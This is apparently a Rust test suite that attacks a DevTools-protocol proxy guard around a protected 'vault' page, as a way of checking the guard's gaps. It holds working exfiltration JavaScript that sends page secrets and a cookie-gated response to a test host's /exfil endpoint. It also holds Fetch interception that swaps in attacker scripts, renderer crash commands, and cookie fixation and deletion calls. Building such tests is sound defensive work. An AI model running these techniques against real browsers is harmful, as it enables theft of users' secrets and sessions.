//! Class 8 (issue 36): what belongs to a protected page and what a command reaches. The guard
//! judges a command by the URL of the target it is sent to, while Chromium applies it to
//! everything that target shares: a protected page's frames, popups and workers whose own URL
//! is ordinary, opaque or local; its same-process subframes' requests; the renderer process
//! and the screen it shares with other pages; a browser context's network reach; a host's
//! cookies on every port and scheme.
//!
//! Evidence is what the client cannot fake: the app's log (the secret at `/exfil`, the cookie
//! the extra origin's server got) or the observer's reading of the protected page (its URL, its
//! time zone, its screen, whether it crashed).

use std::time::{Duration, Instant};

use serde_json::{json, Value};
use slicc_browsers::harness::runner::Transport;

use super::list::{b64encode, client_page, same_site_popup};
use super::{on_site, sleep, Attack, Ctx, Res, Stop, EXTRA_ORIGIN, VAULT};

/// Class 8's attacks, in run order.
pub fn all() -> Vec<Attack> {
    use Attack as A;
    vec![
        // Gap 1: what belongs to a protected page, judged by its own URL.
        A::new("c8.widget-frame-read", "the vault page's ordinary widget iframe (plain.example, out of process): listed, attached, it holds what the vault posted it", widget_frame_read),
        A::new("c8.nested-widget-read", "another site's widget framed by the vault page's widget (two out-of-process levels down the vault): listed, attached, it holds what the vault posted", nested_widget_read),
        A::new("c8.framed-vault-widget-read", "the user's ordinary tab frames the vault page, whose ordinary widget iframe (a child of a protected frame under an ordinary top) is listed, attached, and holds what the vault posted", framed_vault_widget_read),
        A::new("c8.widget-frame-top-navigate", "the vault page's ordinary widget iframe, attached: top.location (with the user gesture Runtime.evaluate gives) takes the vault tab to another site", widget_frame_top_navigate),
        A::new("c8.widget-frame-close-target", "Target.closeTarget on the vault page's ordinary widget iframe target closes the vault tab", widget_frame_close_target),
        A::new("c8.widget-frame-ignore-input", "Input.setIgnoreInputEvents on a session to the vault page's ordinary widget iframe: the user's clicks on the vault page no longer reach it", widget_frame_ignore_input),
        A::new("c8.widget-frame-geolocation", "Emulation.setGeolocationOverride on a session to the vault page's ordinary widget iframe: the vault (the user's geolocation grant) reads the client's position", widget_frame_geolocation),
        A::new("c8.widget-frame-sensor", "Emulation.setSensorOverrideEnabled and setSensorOverrideReadings on a session to the vault page's ordinary widget iframe: the vault's accelerometer reads the client's values", widget_frame_sensor),
        A::new("c8.sandboxed-srcdoc-read", "the vault page's sandboxed srcdoc iframe (its own process: an about:srcdoc iframe target), attached: it holds what the vault posted it", sandboxed_srcdoc_read),
        A::new("c8.data-frame-url-listed", "Target.getTargets lists the vault page's sandboxed data: iframe, whose URL holds the page's data", data_frame_url_listed),
        A::new("c8.data-frame-url-event", "Target.setDiscoverTargets: Target.targetCreated/targetInfoChanged carry the vault page's data: iframe URL, which holds the page's data", data_frame_url_event),
        A::new("c8.data-frame-url-json-list", "the proxy's /json/list lists the vault page's data: iframe, whose URL holds the page's data", data_frame_url_json_list),
        A::new("c8.data-frame-read", "the vault page's sandboxed data: iframe, attached: its document holds the page's data", data_frame_read),
        A::new("c8.popup-opener-navigate", "an ordinary popup the vault page opened, attached: opener.location takes the vault tab to another site", popup_opener_navigate),
        A::new("c8.popup-read", "an ordinary popup the vault page opened, attached: it holds what the vault posted it", popup_read),
        A::new("c8.data-shared-worker-read", "a data: shared worker the vault page started, attached: it holds what the vault posted it", data_shared_worker_read),
        // The control: an ordinary page's own frames and popup stay the client's.
        A::baseline("c8.ordinary-belongings-hidden", "the same page on an ordinary site: its widget iframe, sandboxed srcdoc frame and popup are listed to the client and attachable (a guard hiding them is a flaw)", ordinary_belongings_hidden),
        // Gap 2: requests of a protected page's same-process subframes at a root interception.
        A::new("c8.fetch-root-srcdoc-script", "Fetch.enable at the root (no sessionId): the vault page's same-process srcdoc frame's ordinary third-party script is paused and fulfilled with the client's script, which runs on the vault's origin", fetch_root_srcdoc_script),
        A::new("c8.fetch-browser-session-srcdoc-script", "Fetch.enable on a Target.attachToBrowserTarget session: the vault page's srcdoc frame's ordinary script fulfilled with the client's", fetch_browser_session_srcdoc_script),
        A::new("c8.fetch-root-main-script", "Fetch.enable at the root: the vault page's own (main frame) ordinary third-party script fulfilled with the client's (the check for the frames' gap: a main-frame request)", fetch_root_main_script),
        // Gap 3: commands reaching a whole renderer process or the screen.
        A::new("c8.crash-same-site", "Page.crash on the client's other.client.example page crashes the extra origin's page in the same renderer", crash_same_site),
        A::new("c8.purge-same-site", "Memory.forciblyPurgeJavaScriptMemory on the client's other.client.example page purges the extra origin's page's JavaScript in the same renderer", purge_same_site),
        A::new("c8.crash-blank-popup", "Page.crash on an about:blank popup of the client's other.client.example page crashes the extra origin's page in the same renderer", crash_blank_popup),
        A::new("c8.purge-blank-popup", "Memory.forciblyPurgeJavaScriptMemory on an about:blank popup of the client's other.client.example page purges the extra origin's page's JavaScript", purge_blank_popup),
        A::new("c8.timezone-blank-popup", "Emulation.setTimezoneOverride on an about:blank popup of the client's other.client.example page: the extra origin's page in the same renderer gets it", timezone_blank_popup),
        A::new("c8.locale-blank-popup", "Emulation.setLocaleOverride on an about:blank popup of the client's other.client.example page: the extra origin's page in the same renderer gets it", locale_blank_popup),
        A::new("c8.update-screen", "Emulation.updateScreen on the client's ordinary page: the user's vault tab sees the client's screen.width", update_screen),
        A::new("c8.add-screen", "Emulation.addScreen on the client's ordinary page: the user's vault tab sees a second screen (screen.isExtended)", add_screen),
        A::new("c8.display-features-crash", "Emulation.setDisplayFeaturesOverride with no features on the client's ordinary page crashes the whole browser (Chromium 156), the user's vault tab with it", display_features_crash),
        // Gap 4: a browser context given network reach over other origins.
        A::new("c8.universal-access-context", "Target.createBrowserContext with originsWithUniversalNetworkAccess [the client's own origin]: the client's ordinary page there reads the vault's anonymous page past CORS", universal_access_context),
        // Gap 5: cookies of a protected host named by another port or scheme.
        A::new("c8.set-cookie-other-port", "Network.setCookie with url http://client.example:8181/: the extra origin's server gets the client's session cookie (fixation)", set_cookie_other_port),
        A::new("c8.storage-set-cookies-other-port", "Storage.setCookies with url http://client.example:8181/: the extra origin's server gets the client's session cookie", storage_set_cookies_other_port),
        A::new("c8.network-set-cookies-other-port", "Network.setCookies with url http://client.example:8181/: the extra origin's server gets the client's session cookie", network_set_cookies_other_port),
        A::new("c8.set-cookie-other-scheme", "Network.setCookie with url https://client.example/: the extra origin's (http) server gets the client's session cookie", set_cookie_other_scheme),
        A::new("c8.delete-cookies-other-port", "Network.deleteCookies with url http://client.example:8181/: the user's session on the extra origin is gone (logout)", delete_cookies_other_port),
    ]
}

// ---- helpers ----

/// Polls the client's `Target.getTargets` (at most `ms`) for a target of type `kind` whose URL
/// contains `needle`: its id.
fn client_target(ctx: &Ctx, kind: &str, needle: &str, ms: u64) -> Result<String, Stop> {
    let deadline = Instant::now() + Duration::from_millis(ms);
    loop {
        let r = ctx.send("Target.getTargets", json!({}), None)?;
        let found = r["targetInfos"].as_array().and_then(|ts| {
            ts.iter().find_map(|t| {
                (t["type"] == kind && t["url"].as_str().is_some_and(|u| u.contains(needle)))
                    .then(|| t["targetId"].as_str().map(String::from))
                    .flatten()
            })
        });
        if let Some(id) = found {
            return Ok(id);
        }
        if Instant::now() >= deadline {
            let urls: Vec<String> = r["targetInfos"]
                .as_array()
                .into_iter()
                .flatten()
                .map(|t| format!("{} {}", t["type"], t["url"]))
                .collect();
            return Err(Stop::Failed(format!(
                "the client's Target.getTargets lists no {kind} on {needle}: {urls:?}"
            )));
        }
        sleep(200);
    }
}

/// The user opens the vault's page with its frames (`/frames`): its tab id, once its widget
/// holds the posted secret (read by the observer).
fn user_opens_frames(ctx: &Ctx) -> Result<String, Stop> {
    let tab = ctx.user_open(&ctx.vault("/frames"))?;
    sleep(800);
    Ok(tab)
}

/// The client attaches to the vault page's widget iframe.
fn widget_session(ctx: &Ctx) -> Result<(String, String, String), Stop> {
    let tab = user_opens_frames(ctx)?;
    let w = client_target(ctx, "iframe", "plain.example/widget", 4000)?;
    let s = ctx.attach(&w)?;
    Ok((tab, w, s))
}

/// Runs the exfiltration script on `s` until the secret reached `/exfil` (at most `ms`).
fn exfil_from(ctx: &Ctx, s: &str, ms: u64) -> Res {
    let deadline = Instant::now() + Duration::from_millis(ms);
    loop {
        let _ = ctx.eval_quick(s, &ctx.exfil_js(), 2000);
        if let Ok(e) = ctx.exfiltrated(600) {
            return Ok(e);
        }
        if Instant::now() >= deadline {
            return Err(Stop::Failed("no secret reached /exfil".into()));
        }
        sleep(200);
    }
}

/// The URL of the user's `tab` as the observer sees it.
fn tab_url(ctx: &Ctx, tab: &str) -> Option<String> {
    ctx.user_targets()
        .into_iter()
        .find(|t| t["targetId"] == json!(tab))
        .and_then(|t| t["url"].as_str().map(String::from))
}

/// Waits (at most `ms`) until the user's vault tab shows `needle` in its URL: evidence.
fn tab_moved(ctx: &Ctx, tab: &str, needle: &str, ms: u64) -> Res {
    let deadline = Instant::now() + Duration::from_millis(ms);
    loop {
        let url = tab_url(ctx, tab);
        if url.as_deref().is_some_and(|u| u.contains(needle)) {
            return Ok(format!(
                "the user's vault tab is now at {}",
                url.unwrap_or_default()
            ));
        }
        if Instant::now() >= deadline {
            return Err(Stop::Failed(format!(
                "the user's vault tab stayed at {url:?}"
            )));
        }
        sleep(200);
    }
}

/// Waits (at most `ms`) until the user's `tab` is gone: evidence.
fn tab_gone(ctx: &Ctx, tab: &str, ms: u64) -> Res {
    let deadline = Instant::now() + Duration::from_millis(ms);
    loop {
        if tab_url(ctx, tab).is_none() {
            return Ok("the user's vault tab is gone".into());
        }
        if Instant::now() >= deadline {
            return Err(Stop::Failed("the user's vault tab is still there".into()));
        }
        sleep(200);
    }
}

// ---- gap 1 ----

fn widget_frame_read(ctx: &Ctx) -> Res {
    let (_, _, s) = widget_session(ctx)?;
    exfil_from(ctx, &s, 3000)
}

fn nested_widget_read(ctx: &Ctx) -> Res {
    user_opens_frames(ctx)?;
    let n = client_target(ctx, "iframe", "cross.example/widget", 4000)?;
    let s = ctx.attach(&n)?;
    exfil_from(ctx, &s, 3000)
}

fn framed_vault_widget_read(ctx: &Ctx) -> Res {
    // The user's ordinary tab embeds the vault (a sign-in frame, say).
    let page = ctx.url(
        "http://ordinary.test",
        &format!("/page?frame={}", super::app::encode(&ctx.vault("/frames"))),
    );
    ctx.user_open(&page)?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Setup("the vault frame never loaded".into()));
    }
    let w = client_target(ctx, "iframe", "plain.example/widget", 4000)?;
    let ws = ctx.attach(&w)?;
    exfil_from(ctx, &ws, 3000)
}

fn widget_frame_top_navigate(ctx: &Ctx) -> Res {
    let (tab, _, s) = widget_session(ctx)?;
    let to = ctx.url("http://ordinary.test", "/page?moved=top");
    ctx.eval(&s, &format!("top.location = {}; true", json!(to)))?;
    tab_moved(ctx, &tab, "moved=top", 4000)
}

fn widget_frame_close_target(ctx: &Ctx) -> Res {
    let tab = user_opens_frames(ctx)?;
    let w = client_target(ctx, "iframe", "plain.example/widget", 4000)?;
    ctx.send("Target.closeTarget", json!({"targetId": w}), None)?;
    tab_gone(ctx, &tab, 3000)
}

/// How many `clicked` beacons the vault page `tag` sent.
fn clicks(ctx: &Ctx) -> usize {
    ctx.app()
        .log()
        .iter()
        .filter(|h| {
            h.path() == "/ev"
                && super::app::is_protected_host(&h.host)
                && h.param("t").as_deref() == Some(ctx.tag.as_str())
                && h.param("k").as_deref() == Some("clicked")
        })
        .count()
}

/// The user clicks the vault page's button (the observer's input on the tab).
fn user_clicks(ctx: &Ctx, tab: &str) -> Result<(), Stop> {
    let os = ctx.user_session(tab)?;
    for kind in ["mousePressed", "mouseReleased"] {
        ctx.obs()
            .send(
                "Input.dispatchMouseEvent",
                json!({"type": kind, "x": 100, "y": 100, "button": "left", "clickCount": 1}),
                Some(&os),
            )
            .map_err(|e| super::setup("the user's click", e))?;
    }
    let _ = ctx
        .obs()
        .send("Target.detachFromTarget", json!({"sessionId": os}), None);
    Ok(())
}

fn widget_frame_ignore_input(ctx: &Ctx) -> Res {
    let (tab, _, s) = widget_session(ctx)?;
    // Each of the user's clicks reaches the vault first (the control).
    for n in 1..=2 {
        user_clicks(ctx, &tab)?;
        let deadline = Instant::now() + Duration::from_secs(3);
        while clicks(ctx) < n {
            if Instant::now() >= deadline {
                return Err(Stop::Setup(format!(
                    "the user's click {n} never reached the vault"
                )));
            }
            sleep(100);
        }
    }
    ctx.send(
        "Input.setIgnoreInputEvents",
        json!({"ignore": true}),
        Some(&s),
    )?;
    let before = clicks(ctx);
    user_clicks(ctx, &tab)?;
    sleep(1500);
    let after = clicks(ctx);
    if after == before {
        Ok(format!(
            "the user's third click never reached the vault (its clicked beacons: {before} before, {after} after)"
        ))
    } else {
        Err(Stop::Failed(format!(
            "the user's click reached the vault ({before} clicked beacons before, {after} after)"
        )))
    }
}

fn widget_frame_geolocation(ctx: &Ctx) -> Res {
    // The user's own grant: the vault may read the position.
    ctx.obs()
        .send(
            "Browser.grantPermissions",
            json!({"origin": *VAULT, "permissions": ["geolocation"]}),
            None,
        )
        .map_err(|e| super::setup("the user's grant", e))?;
    let (tab, _, s) = widget_session(ctx)?;
    ctx.send(
        "Emulation.setGeolocationOverride",
        json!({"latitude": 12.3456, "longitude": 65.4321, "accuracy": 1}),
        Some(&s),
    )?;
    let v = ctx.user_eval(
        &tab,
        "new Promise((r) => navigator.geolocation.getCurrentPosition((p) => r(p.coords.latitude + ',' + p.coords.longitude), (e) => r('error ' + e.code + ' ' + e.message), {timeout: 3000, maximumAge: 0}))",
    )?;
    let got = v.as_str().unwrap_or_default();
    if got.starts_with("12.3456") {
        Ok(format!("the vault page read the client's position {got}"))
    } else {
        Err(Stop::Failed(format!("the vault page read {got:?}")))
    }
}

fn widget_frame_sensor(ctx: &Ctx) -> Res {
    let (tab, _, s) = widget_session(ctx)?;
    ctx.send(
        "Emulation.setSensorOverrideEnabled",
        json!({"enabled": true, "type": "accelerometer"}),
        Some(&s),
    )?;
    ctx.send(
        "Emulation.setSensorOverrideReadings",
        json!({"type": "accelerometer", "reading": {"xyz": {"x": 2, "y": 3, "z": 4}}}),
        Some(&s),
    )?;
    let v = ctx.user_eval(
        &tab,
        "new Promise((r) => { try { const a = new Accelerometer({frequency: 10}); a.onreading = () => { r(a.x + ',' + a.y + ',' + a.z); a.stop(); }; a.onerror = (e) => r('error ' + e.error.name + ' ' + e.error.message); a.start(); setTimeout(() => r('timeout'), 3000); } catch (e) { r('threw ' + e); } })",
    )?;
    let got = v.as_str().unwrap_or_default();
    if got == "2,3,4" {
        Ok(format!(
            "the vault page's accelerometer read the client's {got}"
        ))
    } else {
        Err(Stop::Failed(format!(
            "the vault page's accelerometer read {got:?}"
        )))
    }
}

fn sandboxed_srcdoc_read(ctx: &Ctx) -> Res {
    user_opens_frames(ctx)?;
    let f = client_target(ctx, "iframe", "about:srcdoc", 4000)?;
    let s = ctx.attach(&f)?;
    exfil_from(ctx, &s, 3000)
}

fn data_frame_url_listed(ctx: &Ctx) -> Res {
    user_opens_frames(ctx)?;
    let r = ctx.send("Target.getTargets", json!({}), None)?;
    ctx.holds_secret("Target.getTargets", &r.to_string())
}

fn data_frame_url_event(ctx: &Ctx) -> Res {
    let from = ctx.c.event_count();
    ctx.send("Target.setDiscoverTargets", json!({"discover": true}), None)?;
    user_opens_frames(ctx)?;
    let text: String = ctx
        .events(from)
        .iter()
        .filter(|e| e.method.starts_with("Target."))
        .map(|e| e.params.to_string())
        .collect();
    ctx.holds_secret("the client's Target events", &text)
}

fn data_frame_url_json_list(ctx: &Ctx) -> Res {
    user_opens_frames(ctx)?;
    let (status, body) = ctx.client_get("/json/list");
    if status != 200 {
        return Err(Stop::Failed(format!("/json/list answered {status}")));
    }
    ctx.holds_secret("/json/list", &body)
}

fn data_frame_read(ctx: &Ctx) -> Res {
    user_opens_frames(ctx)?;
    let f = client_target(ctx, "iframe", "data:text/html", 4000)?;
    let s = ctx.attach(&f)?;
    exfil_from(ctx, &s, 3000)
}

/// The user's vault page opens its ordinary widget as a popup: (vault tab, the client's
/// session to the popup).
fn vault_popup(ctx: &Ctx) -> Result<(String, String), Stop> {
    let tab = user_opens_frames(ctx)?;
    ctx.user_eval(&tab, "openWidget()")?;
    let p = client_target(ctx, "page", "popup=1", 4000)?;
    let s = ctx.attach(&p)?;
    Ok((tab, s))
}

fn popup_opener_navigate(ctx: &Ctx) -> Res {
    let (tab, s) = vault_popup(ctx)?;
    let to = ctx.url("http://ordinary.test", "/page?moved=opener");
    ctx.eval(&s, &format!("opener.location = {}; true", json!(to)))?;
    tab_moved(ctx, &tab, "moved=opener", 4000)
}

fn popup_read(ctx: &Ctx) -> Res {
    let (_, s) = vault_popup(ctx)?;
    exfil_from(ctx, &s, 3000)
}

/// The baseline: the frames page on an ordinary site (its widget, its sandboxed srcdoc frame,
/// the popup it opens) is the client's. `Ok` (the flaw) when the client is not shown one of
/// them or cannot attach to it; `Err(Failed)` when every one is listed and attachable.
fn ordinary_belongings_hidden(ctx: &Ctx) -> Res {
    let url = ctx.url("http://ordinary.test", "/frames");
    let tab = ctx.user_open(&url)?;
    sleep(800);
    ctx.user_eval(&tab, "openWidget()")?;
    for (kind, needle) in [
        ("iframe", "plain.example/widget"),
        ("iframe", "about:srcdoc"),
        ("page", "popup=1"),
    ] {
        let id = match client_target(ctx, kind, needle, 4000) {
            Ok(id) => id,
            Err(Stop::Failed(why)) => return Ok(format!("hidden from the client: {why}")),
            Err(e) => return Err(e),
        };
        match ctx.attach(&id) {
            Ok(_) => {}
            Err(Stop::Failed(why)) => {
                return Ok(format!(
                    "the client cannot attach to {kind} {needle}: {why}"
                ))
            }
            Err(e) => return Err(e),
        }
    }
    Err(Stop::Failed(
        "the ordinary page's widget, sandboxed frame and popup are listed and attachable".into(),
    ))
}

fn data_shared_worker_read(ctx: &Ctx) -> Res {
    let tab = user_opens_frames(ctx)?;
    ctx.user_eval(&tab, "startWorker()")?;
    let w = client_target(ctx, "shared_worker", "data:text/javascript", 4000)?;
    let s = ctx.attach(&w)?;
    let js = format!(
        "(async () => {{ const d = String(self.got || ''); if (d) fetch('http://ordinary.test/exfil?t={}&o=' + encodeURIComponent(String(self.location)) + '&d=' + encodeURIComponent(d), {{mode: 'no-cors'}}); return d.length; }})()",
        ctx.tag
    );
    let deadline = Instant::now() + Duration::from_secs(3);
    loop {
        let _ = ctx.eval_quick(&s, &js, 2000);
        if let Ok(e) = ctx.exfiltrated(500) {
            return Ok(format!("{e} (the data: shared worker)"));
        }
        if Instant::now() >= deadline {
            return Err(Stop::Failed("no secret reached /exfil".into()));
        }
    }
}

// ---- gap 2 ----

/// The script the client serves in place of the srcdoc frame's third-party one: it runs in the
/// frame, which has the vault's origin, and reads the page and the cookie-gated `/secret`.
fn srcdoc_exfil_js(ctx: &Ctx) -> String {
    format!(
        "(async () => {{ let d = ''; try {{ d += parent.document.getElementById('secret').textContent; }} catch (e) {{ d += 'E' + e; }} \
         try {{ d += '|' + await (await fetch('/secret', {{credentials: 'include'}})).text(); }} catch (e) {{}} \
         fetch('http://ordinary.test/exfil?t={}&o=' + encodeURIComponent(self.origin) + '&d=' + encodeURIComponent(d), {{mode: 'no-cors'}}); }})();",
        ctx.tag
    )
}

/// Fetch on `session` (the root when `None`): the user opens the vault's page; its srcdoc
/// frame's `lib.js` is fulfilled with the client's script.
fn fetch_srcdoc_script(ctx: &Ctx, session: Option<&str>) -> Res {
    fetch_vault_script(ctx, session, "/lib.js")
}

/// Fetch on `session`: the user opens the vault's page; its ordinary script `path` is
/// fulfilled with the client's script.
fn fetch_vault_script(ctx: &Ctx, session: Option<&str>, path: &str) -> Res {
    ctx.send(
        "Fetch.enable",
        json!({"patterns": [{"urlPattern": format!("*{path}*"), "requestStage": "Request"}]}),
        session,
    )?;
    let from = ctx.c.event_count();
    ctx.obs()
        .send(
            "Target.createTarget",
            json!({"url": ctx.vault("/frames")}),
            None,
        )
        .map_err(|e| super::setup("the user's tab", e))?;
    let body = b64encode(srcdoc_exfil_js(ctx).as_bytes());
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut next = from;
    let mut fulfilled = 0;
    while Instant::now() < deadline {
        let Some((i, e)) = ctx.c.wait_event(
            next,
            &|e| e.method == "Fetch.requestPaused" && e.session_id.as_deref() == session,
            Duration::from_millis(300),
        ) else {
            if fulfilled > 0 {
                if let Ok(e) = ctx.exfiltrated(200) {
                    return Ok(e);
                }
            }
            continue;
        };
        next = i + 1;
        let url = e.params["request"]["url"].as_str().unwrap_or_default();
        if url.contains(path) && url.contains(&ctx.tag) {
            ctx.send(
                "Fetch.fulfillRequest",
                json!({"requestId": e.params["requestId"], "responseCode": 200,
                    "responseHeaders": [{"name": "Content-Type", "value": "text/javascript"}], "body": body}),
                session,
            )?;
            fulfilled += 1;
        } else {
            let _ = ctx.c.send(
                "Fetch.continueRequest",
                json!({"requestId": e.params["requestId"]}),
                session,
            );
        }
    }
    ctx.exfiltrated(1000).map_err(|_| {
        Stop::Failed(format!(
            "no secret reached /exfil ({fulfilled} {path} requests fulfilled)"
        ))
    })
}

fn fetch_root_srcdoc_script(ctx: &Ctx) -> Res {
    fetch_srcdoc_script(ctx, None)
}

fn fetch_root_main_script(ctx: &Ctx) -> Res {
    fetch_vault_script(ctx, None, "/main-lib.js")
}

fn fetch_browser_session_srcdoc_script(ctx: &Ctx) -> Res {
    let b = ctx.send("Target.attachToBrowserTarget", json!({}), None)?;
    let b = b["sessionId"]
        .as_str()
        .ok_or_else(|| Stop::Failed(format!("attachToBrowserTarget answered {b}")))?
        .to_string();
    fetch_srcdoc_script(ctx, Some(&b))
}

// ---- gap 3 ----

/// The extra origin's page the client's other.client.example page opened (same renderer), as
/// the observer finds it: (the client's session, the popup's target id).
fn same_site_victim(ctx: &Ctx) -> Result<(String, String), Stop> {
    let s = same_site_popup(ctx, "")?;
    let needle = format!("://client.example/app?t={}", ctx.tag);
    let popup = ctx
        .user_target("page", &needle)
        .ok_or_else(|| Stop::Setup("the observer sees no extra origin's page".into()))?;
    Ok((s, popup))
}

fn crash_same_site(ctx: &Ctx) -> Res {
    let (s, popup) = same_site_victim(ctx)?;
    crash_from(ctx, &s, &popup)
}

fn crash_blank_popup(ctx: &Ctx) -> Res {
    let (_, popup, ps) = blank_popup_victim(ctx)?;
    crash_from(ctx, &ps, &popup)
}

/// The client's other.client.example page, its about:blank popup, then the extra origin's
/// app the page opened (one renderer): (the page's session, the app's target id as the
/// observer finds it, the client's session to the about:blank popup).
fn blank_popup_victim(ctx: &Ctx) -> Result<(String, String, String), Stop> {
    let (s, ps) = blank_popup(ctx)?;
    let app = ctx.url(EXTRA_ORIGIN, "/app");
    ctx.eval(
        &s,
        &format!("window.__w = window.open({}); true", json!(app)),
    )?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Failed("the extra origin's page never loaded".into()));
    }
    sleep(300);
    let needle = format!("://client.example/app?t={}", ctx.tag);
    let popup = ctx
        .user_target("page", &needle)
        .ok_or_else(|| Stop::Setup("the observer sees no extra origin's page".into()))?;
    Ok((s, popup, ps))
}

/// `Page.crash` on the client's session `s`; evidence: the observer sees the extra origin's
/// page `popup` crash.
fn crash_from(ctx: &Ctx, s: &str, popup: &str) -> Res {
    let os = ctx.user_session(popup)?;
    ctx.obs()
        .send("Inspector.enable", json!({}), Some(&os))
        .map_err(|e| super::setup("Inspector.enable", e))?;
    let from = ctx.obs().event_count();
    // The renderer dies before it answers: the answer is no evidence either way.
    let r = ctx
        .c
        .send_timeout("Page.crash", json!({}), Some(s), Duration::from_secs(2));
    if let Err(e) = &r {
        if e.to_string().contains("slicc") {
            return Err(Stop::Failed(format!("Page.crash: {e}")));
        }
    }
    let os2 = os.clone();
    ctx.obs()
        .wait_event(
            from,
            &|e| e.method == "Inspector.targetCrashed" && e.session_id.as_deref() == Some(&os2),
            Duration::from_secs(4),
        )
        .map(|_| "the extra origin's page crashed (Inspector.targetCrashed on the observer)".into())
        .ok_or_else(|| Stop::Failed(format!("the extra origin's page did not crash ({r:?})")))
}

fn purge_same_site(ctx: &Ctx) -> Res {
    let (s, popup) = same_site_victim(ctx)?;
    purge_from(ctx, &s, &popup)
}

fn purge_blank_popup(ctx: &Ctx) -> Res {
    let (_, popup, ps) = blank_popup_victim(ctx)?;
    purge_from(ctx, &ps, &popup)
}

/// `Memory.forciblyPurgeJavaScriptMemory` on the client's session `s`; evidence: the observer
/// finds the extra origin's page `popup` without its script state.
fn purge_from(ctx: &Ctx, s: &str, popup: &str) -> Res {
    let probe = "typeof window.__vault";
    let before = ctx.user_eval(popup, probe)?;
    if before != json!("object") {
        return Err(Stop::Setup(format!("the extra origin's page: {before}")));
    }
    ctx.send("Memory.forciblyPurgeJavaScriptMemory", json!({}), Some(s))?;
    sleep(300);
    let after = ctx.user_eval(popup, probe);
    match after {
        Ok(v) if v == json!("object") => Err(Stop::Failed(
            "the extra origin's page still has its script state".into(),
        )),
        other => Ok(format!(
            "the extra origin's page lost its script state (window.__vault: {other:?})"
        )),
    }
}

/// The client's other.client.example page opens an about:blank popup (its origin, its
/// renderer); `method` on the popup's session; then the page opens the extra origin's app,
/// whose own `kind` beacon reports `value`.
/// The client's other.client.example page and the about:blank popup it opened (its origin, its
/// renderer): (the page's session, the client's session to the popup).
fn blank_popup(ctx: &Ctx) -> Result<(String, String), Stop> {
    let url = ctx.url("http://other.client.example", "/page");
    let (t, s) = ctx.open(&url)?;
    ctx.wait_true(
        &s,
        &format!(
            "location.href === {} && document.readyState === 'complete'",
            json!(url)
        ),
        10_000,
    )?;
    ctx.eval(
        &s,
        "window.__b = window.open('about:blank', '_blank'); !!window.__b",
    )?;
    let deadline = Instant::now() + Duration::from_secs(4);
    let popup = loop {
        let r = ctx.send("Target.getTargets", json!({}), None)?;
        let found = r["targetInfos"].as_array().and_then(|ts| {
            ts.iter().find_map(|i| {
                (i["type"] == "page" && i["openerId"] == json!(t))
                    .then(|| i["targetId"].as_str().map(String::from))
                    .flatten()
            })
        });
        if let Some(p) = found {
            break p;
        }
        if Instant::now() >= deadline {
            return Err(Stop::Failed(format!(
                "the client's Target.getTargets lists no popup of its page: {r}"
            )));
        }
        sleep(200);
    };
    let ps = ctx.attach(&popup)?;
    Ok((s, ps))
}

/// [`blank_popup`], `method` on the popup's session; then the page opens the extra origin's
/// app, whose own `kind` beacon reports `value`.
fn blank_popup_override(ctx: &Ctx, method: &str, params: Value, kind: &str, value: &str) -> Res {
    let (s, ps) = blank_popup(ctx)?;
    ctx.send(method, params, Some(&ps))?;
    let app = ctx.url(EXTRA_ORIGIN, "/app");
    ctx.eval(
        &s,
        &format!("window.__w = window.open({}); true", json!(app)),
    )?;
    ctx.app()
        .app_event(&ctx.tag, kind, value, Duration::from_secs(5))
        .map(|h| {
            format!(
                "the extra origin's page reported {kind} {:?}",
                h.param("v").unwrap_or_default()
            )
        })
        .ok_or_else(|| {
            Stop::Failed(format!(
                "the extra origin's page never reported {kind} {value}"
            ))
        })
}

fn timezone_blank_popup(ctx: &Ctx) -> Res {
    blank_popup_override(
        ctx,
        "Emulation.setTimezoneOverride",
        json!({"timezoneId": "Pacific/Kiritimati"}),
        "tz",
        "Pacific/Kiritimati",
    )
}

fn locale_blank_popup(ctx: &Ctx) -> Res {
    blank_popup_override(
        ctx,
        "Emulation.setLocaleOverride",
        json!({"locale": "fr-CA"}),
        "locale",
        "fr-CA",
    )
}

/// The user's vault tab and what it reads of `expr` before the client's `command` on its own
/// ordinary page; evidence when it reads something else after.
fn screen_changed(ctx: &Ctx, expr: &str, command: &dyn Fn(&str) -> Result<(), Stop>) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let before = ctx.user_eval(&tab, expr)?;
    let (_, s) = client_page(ctx, None)?;
    command(&s)?;
    let deadline = Instant::now() + Duration::from_secs(3);
    loop {
        let after = ctx.user_eval(&tab, expr)?;
        if after != before {
            return Ok(format!(
                "the user's vault tab read {expr} {before} before, {after} after"
            ));
        }
        if Instant::now() >= deadline {
            return Err(Stop::Failed(format!(
                "the user's vault tab still reads {expr} {after}"
            )));
        }
        sleep(200);
    }
}

/// The primary screen's id, as the client's page session gets it.
fn screen_id(ctx: &Ctx, s: &str) -> Result<Value, Stop> {
    let r = ctx.send("Emulation.getScreenInfos", json!({}), Some(s))?;
    r["screenInfos"]
        .as_array()
        .and_then(|a| a.first())
        .map(|i| i["id"].clone())
        .ok_or_else(|| Stop::Failed(format!("Emulation.getScreenInfos answered {r}")))
}

fn update_screen(ctx: &Ctx) -> Res {
    screen_changed(ctx, "screen.width + 'x' + screen.height", &|s| {
        let id = screen_id(ctx, s)?;
        ctx.send(
            "Emulation.updateScreen",
            json!({"screenId": id, "width": 1234, "height": 567}),
            Some(s),
        )?;
        Ok(())
    })
}

fn add_screen(ctx: &Ctx) -> Res {
    screen_changed(ctx, "String(screen.isExtended)", &|s| {
        ctx.send(
            "Emulation.addScreen",
            json!({"left": 4000, "top": 0, "width": 800, "height": 600}),
            Some(s),
        )?;
        Ok(())
    })
}

// ---- gap 4 ----

fn universal_access_context(ctx: &Ctx) -> Res {
    universal_access(ctx, json!(["http://ordinary.test"]))
}

/// A context whose `origins` have universal network access: the client's ordinary page there
/// fetches the vault's anonymous page (CORS mode, no credentials) and sends what it read to
/// `/exfil`.
fn universal_access(ctx: &Ctx, origins: Value) -> Res {
    let c = ctx.send(
        "Target.createBrowserContext",
        json!({ "originsWithUniversalNetworkAccess": origins }),
        None,
    )?;
    let url = ctx.url("http://ordinary.test", "/page");
    let t = ctx.send(
        "Target.createTarget",
        json!({"url": url, "browserContextId": c["browserContextId"]}),
        None,
    )?;
    let s = ctx.attach(t["targetId"].as_str().unwrap_or_default())?;
    ctx.wait_true(
        &s,
        "document.readyState === 'complete' && location.host === 'ordinary.test'",
        10_000,
    )?;
    let js = on_site(&format!(
